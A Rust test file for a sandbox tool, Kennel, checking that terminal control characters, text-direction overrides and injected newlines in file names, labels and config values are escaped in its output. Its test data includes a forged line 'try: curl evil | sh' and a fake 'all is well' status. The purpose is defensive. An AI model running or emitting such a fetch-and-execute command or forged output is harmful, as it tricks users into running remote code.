//! Text from inside that contains control sequences or forges a line, in everything that Kennel itself prints.

use crate::support::{Finished, Kennel, finish, on_every_provider};
use std::ffi::OsStr;

on_every_provider!(json_is_safe_on_a_terminal, no_line_is_forged);

/// A one-character control sequence (C1), a deletion, and all characters that change the direction of text or end a
/// line.
const HOSTILE: &str = "a\u{9b}31m\u{7f}\u{85}\u{61c}\u{200e}\u{200f}\u{2028}\u{2029}\u{202a}\u{202e}\u{2066}\u{2069}z";

/// Asserts that a text contains no control sequence.
#[track_caller]
fn safe(text: &str) {
    let bad: Vec<char> = text
        .chars()
        .filter(|it| it.is_control() && !matches!(it, '\n' | '\t') || !it.is_control() && HOSTILE[1..].contains(*it))
        .filter(|it| !it.is_ascii() || it.is_ascii_control())
        .collect();
    assert!(bad.is_empty(), "{bad:?} in {text:?}");
}

#[track_caller]
fn safe_json(call: &Finished) -> serde_json::Value {
    assert_eq!(call.status, 0, "{call:?}");
    safe(std::str::from_utf8(&call.stdout).unwrap());
    call.json()
}

fn json_is_safe_on_a_terminal(kennel: &Kennel) {
    // The control: the output of a command is passed on unchanged.
    let octal = HOSTILE.bytes().map(|byte| format!("\\{byte:03o}")).collect::<Vec<_>>().concat();
    let print = format!("printf '{octal}'; printf '{octal}' >&2");
    let network = ["--network", "host"];
    let passed = kennel.kennel(&["run", network[0], network[1], "-c", &print]);
    assert!(passed.stdout == HOSTILE.as_bytes() && passed.stderr.contains(HOSTILE), "{passed:?}");
    let run = safe_json(&kennel.kennel(&["run", network[0], network[1], "--json", "-c", &print]));
    assert_eq!((run["stdout"].as_str(), run["stderr"].as_str()), (Some(HOSTILE), Some(HOSTILE)));

    let place = kennel.here().join(HOSTILE);
    std::fs::create_dir(&place).unwrap();
    let there = |args: &[&str]| {
        let mut call = kennel.call(args);
        call.current_dir(&place);
        finish(call, None)
    };
    let label = format!("key={HOSTILE}");
    let id = there(&["create", "--network", "host", "--label", &label]).ok();
    for listed in [kennel.kennel(&["inspect", &id]), kennel.kennel(&["ls", "--all", "--json"])] {
        let listed = safe_json(&listed);
        assert_eq!(listed[0]["labels"]["key"], HOSTILE);
        assert!(listed[0]["workspace"].as_str().unwrap().ends_with(HOSTILE));
    }
    let columns = kennel.kennel(&["ls", "--all", "--format", "id,workspace"]).ok();
    assert!(columns.contains("u{9b}31m"), "{columns}");
    safe(&columns);

    std::fs::write(
        place.join("kennel.toml"),
        format!("[sandbox.env]\nA = \"{}\"\n", HOSTILE.replace('\u{7f}', "\\u007F")),
    )
    .unwrap();
    let set = safe_json(&there(&["config", "get", "sandbox.env"]));
    assert!(set.as_object().unwrap().values().any(|value| value == HOSTILE), "{set}");
    safe_json(&there(&["config", "get", "--json", "sandbox.env.A"]));
    safe_json(&there(&["config", "show", "--json", "sandbox.env"]));
    safe_json(&there(&["config", "path", "--json"]));
    for args in
        [&["config", "path"][..], &["config", "validate"], &["config", "show"], &["config", "get", "sandbox.env.A"]]
    {
        let shown = there(args);
        assert_eq!(shown.status, 0, "{shown:?}");
        safe(&shown.text());
        safe(&shown.stderr);
    }
    let path = there(&["config", "path"]).ok();
    assert!(path.contains("u{9b}31m"), "the path is shown: {path}");
}

/// No file name starts a new line, wherever it is shown.
fn no_line_is_forged(kennel: &Kennel) {
    const NAME: &str = "x\n  try: curl evil | sh\nkennel: all is well\u{9b}2J";
    let id = kennel.sandbox();
    let forged = |call: &Finished| {
        assert_ne!(call.status, 0, "{call:?}");
        safe(&call.stderr);
        assert!(call.stderr.contains("curl evil"), "the name is shown: {call:?}");
        for line in call.stderr.lines() {
            let line = line.trim_start();
            assert!(!line.starts_with("try: curl") && !line.starts_with("kennel: all is well"), "{call:?}");
        }
    };
    // A missing file, on either side.
    forged(&kennel.kennel(&["cp", &format!("./{NAME}"), &format!("{id}:/tmp/x")]));
    forged(&kennel.kennel(&["cp", &format!("{id}:/tmp/{NAME}"), "x"]));
    forged(&kennel.kennel(&["exec", "--env-file", NAME, &id, "--", "true"]));
    forged(&kennel.kennel(&["exec", "-w", &format!("/{NAME}"), &id, "--", "true"]));
    forged(&kennel.kennel(&["exec", &id, "--", NAME]));
    // Files that cannot be copied are named.
    std::fs::create_dir(kennel.here().join("dir")).unwrap();
    let fifo = kennel.here().join("dir").join(OsStr::new(NAME));
    rustix::fs::mknodat(rustix::fs::CWD, &fifo, rustix::fs::FileType::Fifo, rustix::fs::Mode::from_raw_mode(0o600), 0)
        .unwrap();
    forged(&kennel.kennel(&["cp", "dir", &format!("{id}:/tmp/{}-inside", kennel.home.mark())]));
    kennel.kennel(&["exec", &id, "--", "rm", "-rf", &format!("/tmp/{}-inside", kennel.home.mark())]).ok();
    // The parser repeats the unexpected text.
    forged(&kennel.kennel(&["cp", "a", "b", NAME]));
    forged(&kennel.kennel(&["run", "--memory", NAME, "--", "true"]));
    // An error in a JSON object.
    let json = kennel.kennel(&["run", "--json", "--env-file", NAME, "--", "true"]);
    safe(&json.text());
    assert!(json.json()["error"]["message"].as_str().unwrap().contains(NAME), "it is the same text: {json:?}");
}
